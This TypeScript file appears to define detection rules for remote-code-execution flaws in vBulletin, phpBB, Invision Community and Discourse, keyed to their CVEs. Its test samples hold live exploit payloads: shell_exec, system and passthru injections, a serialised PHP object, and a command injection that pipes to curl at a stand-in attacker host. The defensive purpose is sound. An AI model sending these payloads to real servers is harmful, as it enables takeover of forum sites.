import { formPost, get, jsonPost } from '../../../request-samples.ts';
import {
  allOf,
  anyOf,
  bodyHas,
  bodyMatches,
  decodedQueryHas,
  fieldHas,
  fieldIs,
  fieldMatches,
  hasField,
  methodIs,
  pathHas,
  pathIs,
  queryHas,
  uriHas,
} from '../conditions.ts';
import { detection } from '../targeted-rule.ts';

export const forumRules = [
  detection({
    ref: 'managed-vbulletin-widget',
    description:
      'vBulletin: runs PHP in the configuration of a widget (CVE-2019-16759, CVE-2020-17496)',
    categories: [
      'vbulletin',
      'code-injection',
      'remote-code-execution',
      'cve-2019-16759',
      'cve-2020-17496',
    ],
    expression: allOf(
      anyOf(
        uriHas('widget_php', 'widget_tabbedcontainer_tab_panel', 'routestring'),
        pathHas('/ajax/render/', '/index.php'),
      ),
      anyOf(
        bodyHas('widgetconfig[code]', 'widget_php'),
        decodedQueryHas('widgetconfig[code]', 'widget_php'),
      ),
    ),
    matching: [
      formPost('/index.php?routestring=ajax/render/widget_php', {
        'widgetConfig[code]': 'echo shell_exec("id"); exit;',
      }),
      formPost('/ajax/render/widget_tabbedcontainer_tab_panel', {
        'subWidgets[0][template]': 'widget_php',
        'subWidgets[0][config][code]': 'phpinfo();',
      }),
    ],
    other: [
      formPost('/ajax/render/widget_search', { 'widgetConfig[title]': 'x' }),
      get('/index.php?routestring=forum/news'),
    ],
  }),
  detection({
    ref: 'managed-vbulletin-arguments',
    description:
      'vBulletin: a serialised object in the arguments of a hook, or a template with code (CVE-2015-7808, CVE-2025-48827, CVE-2025-48828)',
    categories: [
      'vbulletin',
      'deserialization',
      'template-injection',
      'remote-code-execution',
      'cve-2015-7808',
      'cve-2025-48827',
      'cve-2025-48828',
    ],
    expression: anyOf(
      allOf(pathHas('/ajax/api/hook/decodearguments'), hasField('arguments')),
      allOf(
        uriHas('ajax/api/ad/replaceadtemplate', 'ajax/api/ad/wrapadtemplate'),
        anyOf(hasField('template'), methodIs('POST')),
      ),
    ),
    matching: [
      get('/ajax/api/hook/decodeArguments?arguments=O%3A12%3A%22vB_dB_Result%22%3A0%3A%7B%7D'),
      formPost('/index.php?routestring=ajax/api/ad/replaceAdTemplate', {
        styleid: '1',
        location: 'x',
        template: '<vb:if condition=\'"passthru"("id")\'></vb:if>',
      }),
    ],
    other: [get('/ajax/api/user/fetchUserinfo'), get('/forum/hook/decode')],
  }),
  detection({
    ref: 'managed-phpbb-highlight',
    description: 'phpBB: runs PHP in the words that a page highlights (CVE-2004-1315)',
    categories: ['phpbb', 'code-injection', 'remote-code-execution', 'cve-2004-1315'],
    expression: allOf(pathHas('/viewtopic.php'), fieldMatches('highlight', "'[.]")),
    matching: [
      get('/viewtopic.php?t=1&highlight=%2527.passthru($HTTP_GET_VARS%5Brush%5D).%2527'),
      get("/forum/viewtopic.php?highlight='.system(id).'"),
    ],
    other: [get("/viewtopic.php?t=1&highlight=o'neil"), get('/viewtopic.php?t=1')],
  }),
  detection({
    ref: 'managed-invision-theme',
    description: 'Invision Community: runs an expression in the style of a theme (CVE-2025-47916)',
    categories: ['invision', 'template-injection', 'remote-code-execution', 'cve-2025-47916'],
    expression: allOf(
      anyOf(pathHas('/index.php'), pathIs('/'), queryHas('themeeditor')),
      anyOf(queryHas('controller=themeeditor'), fieldIs('controller', 'themeeditor')),
      fieldHas('content', '{expression='),
    ),
    matching: [
      formPost('/index.php?app=core&module=system&controller=themeeditor&do=customCss', {
        content: '{expression="die(system(\'id\'))"}',
      }),
      formPost('/index.php', {
        app: 'core',
        module: 'system',
        controller: 'themeeditor',
        do: 'customCss',
        content: '{expression="1"}',
      }),
    ],
    other: [
      formPost('/index.php?app=core&module=system&controller=themeeditor&do=customCss', {
        content: 'body { color: red }',
      }),
      formPost('/index.php', { content: '{expression}' }),
    ],
  }),
  detection({
    ref: 'managed-discourse-subscription',
    description: 'Discourse: runs commands in the address of a subscription (CVE-2021-41163)',
    categories: ['discourse', 'command-injection', 'cve-2021-41163'],
    expression: allOf(pathHas('/webhooks/aws'), bodyMatches('"subscribeurl" *: *"(?:\\||[^h])')),
    matching: [
      jsonPost('/webhooks/aws', {
        Type: 'SubscriptionConfirmation',
        SubscribeURL: '| curl attacker.test',
      }),
      jsonPost('/webhooks/aws', { SubscribeURL: 'file:///etc/passwd' }),
    ],
    other: [
      jsonPost('/webhooks/aws', {
        Type: 'SubscriptionConfirmation',
        SubscribeURL: 'https://sns.eu-west-1.amazonaws.com/?Action=x',
      }),
      jsonPost('/webhooks/mailgun', { SubscribeURL: '|' }),
    ],
  }),
];
